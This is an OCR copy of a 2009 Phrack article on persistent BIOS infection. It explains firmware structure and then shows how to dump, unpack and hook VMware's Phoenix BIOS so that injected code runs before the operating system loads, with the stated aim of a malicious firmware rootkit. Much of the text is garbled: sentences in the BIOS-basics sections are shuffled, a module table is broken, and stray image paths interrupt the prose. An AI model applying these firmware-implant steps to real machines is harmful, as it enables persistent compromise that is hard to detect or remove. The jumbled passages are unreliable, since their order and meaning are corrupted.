You are on page 1of 28

==Phrack Inc.

Volume 0x0d, Issue 0x42, Phile #0x07 of 0x11
|=---=[ Persistent BIOS Infection ]=---=|
|=---=[ "The early bird catches the worm" ]=---=|
|=---=[ .aLS - ]=---=|
|=---=[ Alfredo - ]=---=|
|=---=[ June 1 2009 ]=---=|

---[ Index
0 - Foreword1 - Introduction
1.1 - Paper structure
2 - BIOS basics
2.1 - BIOS introduction
2.1.1 - Hardware
2.1.2 - How it works?
2.2 - Firmware file structure
2.3 - Update/Flashing process

3 - BIOS Infection
3.0 - Initial setup
3.1 - VMWare's (Phoenix) BIOS modification
3.1.1 - Dumping the VMWare BIOS
3.1.2 - Setting up VMWARE to load an alternate BIOS
3.1.3 - Unpacking the firmware
3.1.4 - Modification
3.1.5 - Payload - The Ready Signal
3.1.6 - OptionROM
3.2 - Real (Award) BIOS modification
3.2.1 - Dumping the real BIOS firmware
3.2.2 - Modification
3.2.3 - Payload
4 - BIOS32 (Direct kernel infection)
5 - Future and other uses
5.1 - SMM!
6 - Greetz
7 - References
8 - Sources - Implementation details

---[ 0.- Foreword

Dear reader, if you're here we can assume that you already know what
the BIOS is and how it works. Or, at least, you have a general
picture of what the BIOS does, and its importance for the normal
operation of a computer. Based on that, we will briefly explain some
basic concepts to get you into context and then we'll jump to the,
more relevant, technical stuff.
---[ 1.- Introduction
Over the years, a lot has been said about this topic. But, apart of
the old Chernobyl virus, which just zeroed the BIOS if you
motherboard was one of the supported, or some modifications with
modding purposes (that were a very valuable source of data, btw)
like Pinczakko's work, we wouldnt be able to find any public
implementation of a working, generical and malicious BIOS infection.Mostly, the people tends to think that this is a very researched,
old and already mitigated technique. It is sometimes even confused
whith the obsolet MBR viruses. But, is our intention to show that
this kind of attacks are possible and could be, with the aproppiated
OS detection and infection techniques, a very trustable and persistent
rootkit residing just inside of the BIOS Firmware.

In this paper we will show a generic method to inject code into
unsigned BIOS firmwares. This technique will let us embedd our own
code into the BIOS firmware so that it will get executed just before
the loading of the operating system.
We will also demonstrate how having complete control of the hard
drives allows us to leverage true persistency by deploying fully
functional code directly into a windows process or just by modifying
sensitive OS data in a Linux box.
---[ 1.1 - Paper structure
The main idea of this paper is to show how the BIOS firmware can be
modified and used as a persistence method after a successful
So, we will start by doing a little introduction and then we will
focus the paper on the proof of concept code, splitting the paper
in two main sections:
- VMWare's (Phoenix) BIOS modification
- Real (Award) BIOS modification
In each one we will explain the payloads to show how the attack is
done, and then we'll jump directly to see the payload code.

---[ 2.- BIOS Basics
---[2.1 - BIOS introduction
From Wikipedia [1]:
"The BIOS is boot firmware, designed to bethe first code run by a
PC when powered on. The initial function of the BIOS is to identify
test, and initialize system devices such as the video display card,
hard disk, and floppy disk and other hardware. This is to prepare

[3] This process is known as booting. The modern BIOS has a modular structure. such as PCI Roms (if needed) and at the end.1.Firmware file structure As we said before. The first module of the BIOS is called Bootblock.each one in charge of a different specific task.1. This kind of memory allows the user to reflash it. from hardware initialization to security measures. the machine into a known state. allowing the vendor to offer firmware updates in order to fix bugs. router or printer's pre-boot sequence. designed to supersede this basic firmware functionality. When stored in a normal plain file. executed. it is composed of several LZH compressed modules. therefore there is a decompression routine in charge of the decompression and validation of the others modules that will be subsequently executed. each of them containing an 8 bit checksum.. . Each module is compressed.2 . This is why it is stored in a ROM. will provide replacement software interfaces to applications. which means that there are several modules integrated on the same firmware.2 . and it's in charge of the POST (Power-on self-test) and Emergency boot procedures. It has to test and initialize almost all the different hardware components in the system to make sure everything is working properly. After decompression.1 . which is short for bootstrapping. text display functions and so forth. ---[2. so that software stored on compatible media can be loaded. and given control of the PC. Operating systems and executive software.provide a small library of basic input/output functions that can be called to operate and control the peripherals such as the keyboard. the BIOS firmware has a modular structure. In the IBM PC and AT. support new hardware and to add new functionality. this firmware is stored in an EEPROM (Electrically Erasable Programmable Read-Only Memory). POST is the common term for a computer.How it works? The BIOS hasa very important role in the functioning of a computer.." ". it reads the sector 0 of the hard drive (MBR) looking for a boot loader to start loading the Operating System. which provided additional functionality. certain peripheral cards such as hard-drive controllers and video display adapters carried their own BIOS extension ROM.Hardware Back in the 80's the BIOS firmware was contained in ROM or PROM chips. ---[2. but nowadays. which could not be altered in any way. some other hardwareis initialized. or booting up. It should be always available as it holds the first instruction executed by the CPU when it is turned on. ---[2.

00 ( SETUP) 03AE6 (15078) => 09058 ( 36952) LZINT ( 40%) 682D0h M.Update/Flashing process The BIOS software is not so different from any other software. the real hardware version.02 ( BIOSCODE) 05B87 (23431) => 087A4 ( 34724) LZINT ( 67%) 4B4A9h B.Instance (Name) Packed ---> Expanded Compression Offse | +---+ B. etc. But the flashing process could be very dangerous on a real machine.1): +---+ | Class. That is why it's so important to have some testing platform.00 ( TEMPLATE) 02476 (09334) => 055E0 ( 21984) LZINT ( 42%) 63D78h S.00 ( DECOMPCODE) 006D6 (01750) => 006D6 ( 1750) NONE (100%) 78585h A.leave the machine unresponsive.00 ( BIOSCODE) 001DD (00477) => 0D740 ( 55104) LZINT ( 0%) 77862h *.03 ( BIOSCODE) 06DAF (28079) => 093F0 ( 37872) LZINT ( 74%) 446DFh B. as well as the other not-covered-in-this-paper sections. there are a lot of differences between the vmware version vs. Newer versions come out adding support for new hardware.00 ( STRINGS) 020AC (08364) => 047EA ( 18410) LZINT ( 45%) 66209h E.3 .00 ( ROMEXEC) 06A6C (27244) => 06A6C ( 27244) NONE (100%) 70DDAh B. not all the modules are compressed.00 ( TCPA_*) 00004 (00004) => 00004 ( 004) NONE (100%) 77A5Ah D. The BIOS is a fundamental component of the computer. features and fixing bugs.00 ( BIOSCODE) 00BD0 (03024) => 00BD0 ( 3024) NONE (100%) 7D6AAh We can see here the different parts of the Firmware file. This is whywe have to be very carefully when doing this kind of things. Further.01 ( ACPI) 0005B (00091) => 00074 ( 116) LZINT ( 78%) 78C76h A. we will see why this is so convenient for our purposes. an open source tool to parse and analyze the Phoenix BIOS Firmware ROMs (that we'll going to extract at 3. because. as we'll see. It's the first piece of code executed when a machine is turned on.00 ( UPDATE) 03010 (12304) => 03010 ( 12304) NONE (100%) 5CFDFh X. A failed BIOS update can -and probably will. ---[ 3. where the decompression routine is located. ---[2. such as VMWare.BIOS Infection . a few modules like the Bootblock and the Decompression routine are obviously uncompressed because they are a fundamental piece of the booting process and must perform the decompression of the other modules..However.00 ( LOGO) 00500 (01280) => 03752 ( 14162) LZINT ( 9%) 708BFh X. It's prone to bugs in the same way as other software is.00 ( ACPI) 012FE (04862) => 0437C ( 17276) LZINT ( 28%) 78CECh B. And that just sucks.01 ( BIOSCODE) 05A36 (23094) => 080E0 ( 32992) LZINT ( 69%) 5104Bh C.00 ( MISER) 03095 (12437) => 046D0 ( 18128) LZINT ( 68%) 6BDD1h L.1. Here we have the output of Phnxdeco (available in the Debian repositories). at least for a first approach.01 ( LOGO) 01A23 (06691) => 246B2 (149170) LZINT ( 4%) 6EE81h L. containing the DECOMPCODE section.00 ( DISPLAY) 00AF1 (02801) => 00FE0 ( 4064) LZINT ( 68%) 77A79h G.01 ( ROMEXEC) 01110 (04368) => 01110 ( 4368) NONE (100%) 6000Ah T.

bios440 ( that in our vmware version is located between the file offset 0x6276c7-0x65B994 ) that contains the whole BIOS firmware. You can use objdump to see the sections of the file: objdump -h vmware-vmxAnd you can dump it to a file using the objcopy tool: objcopy -j . it was really helpful to have the embedded gdb server that VMWare offers. called .0 . Sweet! But.Initial setup ---[3.VMX configuration file..rom..Dumping the VMWare BIOS When we started this.. they have an option to backup or dump the actual firmware. we could use our amazing power to modify the vmware-vmx executable.. inserting our own infected bios and it will be executed each time a vmware starts. why would someone would like to update the VMWare BIOS from inside.. In VMWare we can't use this kind of tools. the better. this means that. for every vmware of the computer. because the emulated hardware doesn't have the same functionality as the real hardware..1 . Thismakes sense. the main vmware executable. In order to read the EEPROM where the BIOS firmware is stored we need to run some code in kernel mode to let us send and receive data directly to the southbridge through the IO Ports. the simpler. This let us debug and understand what was happening. Doing this we found that there is a little section of almost 256kb in vmware-vmx. ---[3. Furthermore. To do this. This data is usually provided by the vendor. So in order to patch and modify some little pieces of code to start testing. and very often.zl Umm.bios440 -O binary --set-section-flags . we used some random byte arrays as patterns to find the BIOS in memory.---[3.1.1 . if we have root privileges in the victim machine. we have to obtain a valid VMWARE BIOS firmware to work on.? ---[3.. We are going to modify it a lot of times and it is not going to work most of the times so.2 .. there are simpler ways to accomplish this task.1. in the same way as it is contained in a normal file ready to flash.. almost all motherboard vendors provide some tool to update the BIOS. .Setting upVMWARE to load an alternate BIOS We found that VMWare offers a very practical way to let the user provide an specific BIOS firmware file directly through the .bios440=a \ vmware-vmx bios440. we also need to know some specific data about the current hardware.VMWare's (Phoenix) BIOS modification First.

some of the modules are compressed with an LZH variation. The only thing is that it was done for older Phoenix BIOSes.3 .listen. The great news about Phoenix BIOS Editor is that it can also rebuild the main firmware file.This not-so-known tag is called "bios440.filename = "path/to/file/bios. voila!.guest64. You can use Phoenix BIOS editor over linux using wine if you want.1. The most used are Phnxdeco and Awardeco (two excellent linux GPL tools) together with Phoenix BIOS Editor and Award BIOS editor (some nonGPL tools for windows). It can recompress and integrate all the different decompressed modules to let it just as it was at the beggining. now you have another BIOS firmware running in your VM.listen.4 . and it misses the checksum so we will have to do it by ourselves as we'll see at 3.2. You have to add this line in your .hideBreakpoints = "TRUE" # Allows gdb breakpoints to work debugStub. It will extract all the modules in a /temp directory inside the Phoenix BIOS editor ready to be open with your preferred disassembler. You will end up with an excellent -and completely debuggable.debugOnStartGuest32 = "TRUE" # This will halt the VM at the very first instruction at 0xFFFF0 ---[3.remote = "TRUE" # For debugging from another machine (32bit)debugStub.research scenery.1 Some of these tasks are done by isolated tools that can be invoked directly from a command line.listen.filename" and it let us avoid using VMWare's built-in BIOS and instead allows us to specify a BIOS file to use. ---[3. which is very practical in order to automate the process with simple scripts.bootDelay = "3000" # To delay the boot X miliseconds debugStub.remote = "TRUE" # For debugging from another machine (64bit) monitor.guest32.guest64 = "TRUE" that will leave the VMWare's gdb stub waiting for your connection on localhost on port 8832.Unpacking the firmware As we mentioned before. Nice huh? Other important hidden tags that can be useful to define are: bios.2.guest32 = "TRUE" or debugStub.listen.Modification .VMX file: bios440.1. There are a few available tools to extract and decompress each individual module from the Firmware file. and in combination with: debugStub.rom" And.

and then rebuild them in a fully working BIOS flash update.asm') decomphook = open('decomphook'.2. We can place a hook in almost any place to get our code executed but we have to think things through before deciding on where to patch. It seemed to be the best option because it is always in the same place. Here we have a dump script to quickly extract the firmware modules.) For example.ROM. Cache. and reassemble the modified firmware file. and is called many times during the BIOS boot sequence letting us check if all the needed services are available before doing the real stuff. It is uncompressed. a jump at0xF000:FFF0.EXE and CATENATE. and the possibility of modifying them. For this reason. We have all the modules unpacked. At the beginning we thought about hooking the first instructionexecuted by the CPU. It is also very easy to find by looking for a pattern. In later versions of this script this tools arent needed anymore. PREPARE.Decomp processing --- #assemble the whole code to inject os.system('nasm . and because it doesn't change between different versions. assemble the payloads.EXE are propietary tools to build phoenix firmware that you can find inside the Phoenix BIOS Editor and packaged with other flashing tools.'rb'). inject it. here we are./decomphook.2.struct #---. and is easy to 